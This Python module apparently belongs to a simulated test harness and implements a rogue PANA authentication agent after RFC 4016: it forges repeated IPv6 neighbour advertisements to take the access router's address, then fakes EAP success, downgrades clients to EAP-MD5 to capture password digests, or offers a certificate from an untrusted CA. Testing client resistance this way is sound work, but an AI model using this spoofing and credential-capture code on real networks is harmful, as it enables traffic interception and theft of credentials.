"""A neighbour in the PAA's place: it draws the mobile node's packets to itself (RFC 4016 6.1, 6.2).

It claims the access router's address by neighbour advertisements, again and again, and runs a PAA
of its own; the true one never hears of the mobile node.
"""

from __future__ import annotations

import random
import tempfile
from pathlib import Path

from scapy.layers.inet import UDP
from scapy.layers.inet6 import ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6NDOptDstLLAddr, IPv6
from scapy.layers.l2 import Ether

from agents.eap import ca
from agents.eap.server import EapServer
from agents.eap.tls import TlsServerConfig
from agents.eap.wire import Code, Packet, Type
from agents.nodes.attacker.attack import Attack, Frames, comes_from, datagram, goes_to, is_pana
from agents.nodes.attacker.clients import MD5_CHALLENGE
from agents.nodes.attacker.settings import End, Known
from agents.pana import events
from agents.pana.config import PaaConfig
from agents.pana.dialect import PORT
from agents.pana.paa import Paa
from agents.pana.wire import Result

_HOP_LIMIT = 255
_MSK_LENGTH = 64


def advertisement(claimed: str, mac: str, to: End, *, solicited: bool) -> bytes:
    """Return a neighbour advertisement that displaces what is known (RFC 4861 section 7.2.5)."""
    return bytes(
        Ether(src=mac, dst=to.mac)
        / IPv6(src=claimed, dst=to.address, hlim=_HOP_LIMIT)
        / ICMPv6ND_NA(tgt=claimed, R=1, S=int(solicited), O=1)
        / ICMPv6NDOptDstLLAddr(lladdr=mac)
    )


class RoguePaa(Attack):
    """The base: EAP ends in a success that nobody has granted."""

    def __init__(self, known: Known, rng: random.Random) -> None:
        super().__init__(known, rng)
        self._paa = Paa(PaaConfig(), rng=rng)
        self._ends: float | None = None
        """When it gives up, lest the mobile node never comes to the true PAA."""

    def begin(self, now: float) -> Frames:
        """Take the access router's place."""
        return self.tick(now)

    def tick(self, now: float) -> Frames:
        """Claim its address once more, and let time pass."""
        known = self.known
        if self._ends is not None and now > self._ends:
            return
        yield advertisement(known.far.address, known.own.mac, known.near, solicited=False)
        if (due := self._paa.next_timeout()) is not None and due <= now:
            self._paa.handle_timeout(now)
            yield from self._follow(now)

    def heard(self, frame: Ether, now: float) -> Frames:
        """Answer as the access router would."""
        known = self.known
        over = self._ends is not None and now > self._ends
        if over or not comes_from(frame, known.near.address):
            return
        if ICMPv6ND_NS in frame and frame[ICMPv6ND_NS].tgt == known.far.address:
            yield advertisement(known.far.address, known.own.mac, known.near, solicited=True)
        elif is_pana(frame) and goes_to(frame, known.far.address) and frame.dst == known.own.mac:
            source = known.near.address, frame[UDP].sport
            self._paa.handle_message(bytes(frame[UDP].payload), source, now)
            yield from self._follow(now)

    def _follow(self, now: float) -> Frames:
        while self._paa.events:
            event = self._paa.events.popleft()
            match event:
                case events.EapResponse():
                    self.respond(event, now)
                case events.Authorised():
                    self.won = "the mobile node takes it for the PAA"
                case _:
                    pass
        known = self.known
        while self._paa.outbox:
            data, (_, port) = self._paa.outbox.popleft()
            yield datagram(known.far, known.near, (PORT, port), data, known.own.mac)

    def respond(self, event: events.EapResponse, now: float) -> None:
        """Go on with EAP, here to its end."""
        self._end(event, now)

    def _end(self, event: events.EapResponse, now: float) -> None:
        """Say that EAP has succeeded, and wait whether that is believed."""
        self._ends = self._ends or now + self.patience
        self.told = "its success is not believed"
        success = Packet(Code.SUCCESS, event.packet[1]).encode()
        msk = self.rng.randbytes(_MSK_LENGTH)
        self._paa.accept(event.session_id, success, msk, None, None, now)


class Md5Paa(RoguePaa):
    """EAP-MD5 is asked for; who refuses that is told that he has succeeded."""

    def respond(self, event: events.EapResponse, now: float) -> None:
        """Ask for EAP-MD5."""
        response = Packet.decode(event.packet)
        if response.type == Type.IDENTITY:
            challenge = bytes([16]) + self.rng.randbytes(16)
            number = (response.identifier + 1) % 256
            request = Packet(Code.REQUEST, number, MD5_CHALLENGE, challenge)
            self._paa.eap_request(event.session_id, request.encode(), now)
        else:
            if response.type == MD5_CHALLENGE:
                self.won = "a password's digest"
            self._end(event, now)


class OtherCaPaa(RoguePaa):
    """EAP-TLS with a certificate in the home AAA server's name, of a CA that nobody trusts."""

    def __init__(self, known: Known, rng: random.Random) -> None:
        super().__init__(known, rng)
        self._servers: dict[int, EapServer] = {}
        with tempfile.TemporaryDirectory() as name:
            made = ca.create(Path(name), (), server=known.server_name)
            self._tls = TlsServerConfig(made.ca, made.server.certificate, made.server.key)
            self._tls.prepare()

    def respond(self, event: events.EapResponse, now: float) -> None:
        """Carry EAP-TLS on as a server does."""
        server = self._servers.setdefault(event.session_id, EapServer(self._tls))
        request = server.handle_response(event.packet)
        if server.outcome == "success" and server.keys and request:
            self._paa.accept(event.session_id, request, server.keys.msk, None, None, now)
        elif request and server.outcome is None:
            self._paa.eap_request(event.session_id, request, now)
        else:
            self._ends = self._ends or now + self.patience
            self.told = f"its certificate is refused: {server.reason}"
            self._paa.reject(event.session_id, request, Result.AUTHENTICATION_REJECTED, now)
